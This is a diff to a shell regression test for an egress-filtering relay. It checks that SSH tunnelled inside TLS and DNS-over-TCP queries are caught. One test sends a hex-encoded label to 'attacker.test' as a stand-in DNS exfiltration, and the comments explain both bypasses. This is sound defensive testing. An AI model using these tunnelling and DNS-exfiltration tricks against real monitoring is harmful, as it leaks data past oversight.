@@ -1,6 +1,8 @@
 #!/bin/sh
-# 402-relay-tls-ssh: SSH and SOCKS inside the TLS sessions the relay reads
-# (branch redteam-egress3), against the loopback TLS recorder tls_rec.py.
+# 402-relay-protocols: protocols inside allowed connections that nobody
+# read (branch redteam-egress3).
+# 1. SSH and SOCKS inside the TLS sessions the relay reads, against the
+# loopback TLS recorder tls_rec.py.
 # The leak: the SSH gate (relay_ssh.c) looked at a plain stream's first
 # bytes only, so an SSH session inside TLS to an allowed host:443 (an
 # sshd behind stunnel or any TLS front) passed unread on both TLS paths:
@@ -13,7 +15,16 @@
 # packet arrived on both paths, no event). Legitimate: HTTP inside the
 # same sessions, a plaintext CONNECT tunnel inside TLS, and a stream that
 # only starts like a banner still arrive.
+# 2. DNS over TCP to the host's name server from a program without the
+# shim: allowed as "system name server; queries are checked one by one",
+# but only the shim's hooks checked TCP queries, so a static Go client's
+# "<hex>.attacker.test" reached the name server (dnsmasq here), which
+# would forward it to the attacker's. Now the relay judges every DNS
+# message of a TCP stream to port 53 (rl_dns_gate; seen failing with it
+# off: the name reached dnsmasq, no event); an allowed name still
+# resolves, shimmed (python3) and static (Go).
 . "$(dirname "$0")/lib.sh"
+dns_sandbox
 . "$top_srcdir/t/tls/lib-tls.sh"
 need_relay
 make_ca
@@ -83,7 +94,33 @@ if command -v go >/dev/null; then
 	sleep 0.3
 	check "Go ssh with 'ssh localhost' in the user's policy arrives ($out)" arrived $MARK
 	check "...with an allow event" event_has '"verdict":"allow"' 'relay-ssh' 'inside TLS, passed unread'
+	# 2. DNS over TCP to the host's name server (dnsmasq on 127.0.0.53)
+	(cd "$T" && cp "$top_srcdir/t/e2e/dns_tcp_go.go" . &&
+	 CGO_ENABLED=0 GO111MODULE=off timeout 120 go build -o godns dns_tcp_go.go) ||
+		{ echo "cannot build dns_tcp_go.go"; exit 99; }
+	HEX=414b49415a3751483358354c54
+	out=$(timeout 20 "$T/godns" 127.0.0.53 "$HEX.bare.attacker.test" 2>&1)
+	sleep 0.3
+	check "bare: the TCP query reaches the name server ($out)" grep -q "$HEX.bare" "$DNS_LOG"
+	: > "$T/events.jsonl"
+	out=$(timeout 20 "$DLPJAIL" --log "$T/events.jsonl" -q -- "$T/godns" 127.0.0.53 \
+		"$HEX.jail.attacker.test" 2>&1)
+	sleep 0.3
+	check "static Go, DNS over TCP to the name server: the name never reaches it ($out)" \
+		sh -c "! grep -q '$HEX.jail' '$DNS_LOG'"
+	check "...a deny event for the query" event_has '"verdict":"deny"' '"op":"resolve"' 'attacker.test'
+	check "...the name shown redacted" sh -c "! grep -q '$HEX' '$T/events.jsonl'"
+	out=$(timeout 20 "$DLPJAIL" --allow '*.allowed.test' -q -- "$T/godns" 127.0.0.53 \
+		www.allowed.test 2>&1)
+	check "static Go: an allowed name over TCP still resolves ($out)" has "$out" 'answer [1-9]'
 else
-	echo "# no go toolchain: the CA-path half skipped"
+	echo "# no go toolchain: the CA-path half and the static DNS client skipped"
 fi
+out=$(timeout 20 "$DLPJAIL" --allow '*.allowed.test' -q -- python3 -c '
+import socket, struct
+q = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\x03www\x07allowed\x04test\x00\x00\x01\x00\x01"
+s = socket.create_connection(("127.0.0.53", 53), timeout=5)
+s.sendall(struct.pack("!H", len(q)) + q)
+print("answer", len(s.recv(512)))' 2>&1)
+check "python3: an allowed name over TCP still resolves ($out)" has "$out" 'answer [1-9]'
 finish
